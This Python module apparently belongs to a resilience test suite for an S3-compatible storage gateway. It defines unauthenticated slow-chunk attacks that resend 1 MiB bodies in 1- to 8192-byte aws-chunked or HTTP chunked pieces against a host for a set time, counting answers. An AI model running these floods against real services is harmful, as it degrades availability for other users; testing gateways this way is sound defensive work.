"""Attacks with tiny chunks, each run against a gateway for a while.

They need no key. What others notice of them is measured by whoever starts them.
"""

import contextlib
import http.client
import time
from collections.abc import Callable, Mapping
from typing import Final

_TIMEOUT_S: Final = 120.0
_BYTES: Final = 1 << 20
_FORM: Final = "multipart/form-data; boundary=x"

Attack = Callable[[str, int, float], int]
"""Attack a host and a port for so many seconds; return how often the gateway answered."""


def aws_chunks(method: str, path: str, size: int, content_type: str = "image/jpeg") -> Attack:
    """Send 1 MiB in aws-chunked framing, again and again.

    Args:
        method: HTTP method.
        path: Of the request, with its query.
        size: Bytes of each chunk.
        content_type: Of the body.
    """
    chunk = b"%x\r\n%b\r\n" % (size, b"a" * size)
    headers = {
        "Content-Type": content_type,
        "x-amz-content-sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
        "x-amz-decoded-content-length": str(_BYTES // size * size),
    }
    return _repeated(method, path, headers, chunk * (_BYTES // size) + b"0\r\n\r\n")


def http_chunks(method: str, path: str, size: int) -> Attack:
    """Send 1 MiB in chunks of HTTP, again and again; arguments as of :func:`aws_chunks`."""
    chunk = b"%x\r\n%b\r\n" % (size, b"a" * size)
    headers = {"Transfer-Encoding": "chunked", "x-amz-decoded-content-length": str(_BYTES)}
    return _repeated(method, path, headers, chunk * (_BYTES // size) + b"0\r\n\r\n")


def _repeated(method: str, path: str, headers: Mapping[str, str], body: bytes) -> Attack:
    def attack(host: str, port: int, seconds: float) -> int:
        answered, until = 0, time.monotonic() + seconds
        while time.monotonic() < until:
            answered += _sent(host, port, method, path, headers, body)
        return answered

    return attack


def _sent(
    host: str, port: int, method: str, path: str, headers: Mapping[str, str], body: bytes
) -> bool:
    """Send one request; tell whether it was answered."""
    connection = http.client.HTTPConnection(host, port, timeout=_TIMEOUT_S)
    try:
        connection.putrequest(method, path)
        for name, value in headers.items():
            connection.putheader(name, value)
        if "Transfer-Encoding" not in headers:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders()
        with contextlib.suppress(ConnectionError):
            connection.send(body)  # it may be refused before all is sent, and be answered
        connection.getresponse().read()
    except (OSError, http.client.HTTPException):
        return False
    finally:
        connection.close()
    return True


ATTACKS: Final[Mapping[str, Attack]] = {
    "DeleteObjects in 1-byte aws-chunks": aws_chunks("POST", "/plain?delete", 1),
    "form in 1-byte aws-chunks": aws_chunks("POST", "/plain", 1, _FORM),
    "image in 2-byte aws-chunks": aws_chunks("PUT", "/photos/k.jpg", 2),
    "image in 8 KiB aws-chunks": aws_chunks("PUT", "/photos/k.jpg", 8192),
    "DeleteObjects in 1-byte chunks of HTTP": http_chunks("POST", "/plain?delete", 1),
    "object in 1-byte chunks of HTTP": http_chunks("PUT", "/plain/k", 1),
}
"""By what each is; in buckets ``plain`` and ``photos``, which need not exist."""
